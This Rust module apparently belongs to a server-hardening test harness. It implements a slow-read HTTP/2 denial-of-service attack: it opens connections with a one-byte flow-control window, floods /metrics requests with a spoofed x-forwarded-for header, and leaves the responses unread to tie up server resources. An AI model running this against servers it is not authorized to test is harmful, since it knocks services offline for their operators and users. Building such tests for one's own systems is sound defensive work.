//! Metrics and refusals, whose bytes are nobody else's, are asked for and never read.

use std::time::Duration;

use tokio::time::sleep;

use crate::attack::{Attack, AttackFuture, Target};

#[derive(Debug)]
pub(crate) struct UnreadMetrics;

impl Attack for UnreadMetrics {
    fn name(&self) -> &'static str {
        "unread metrics"
    }

    fn run<'a>(&'a self, target: &'a Target) -> AttackFuture<'a> {
        Box::pin(async move {
            let mut held = Vec::new();
            for _ in 0..4 {
                // Each stream may send one byte: the rest of its answer waits.
                let Some(requests) = target.http2(1).await else { continue };
                for _ in 0..200 {
                    let Ok(mut ready) = requests.clone().ready().await else { break };
                    let request = target
                        .request("GET", "/metrics")
                        .header("x-forwarded-for", "192.0.2.66")
                        .body(())
                        .unwrap();
                    let Ok((answer, _)) = ready.send_request(request, true) else { break };
                    held.push(answer);
                }
            }
            sleep(Duration::from_secs(2)).await;
        })
    }
}
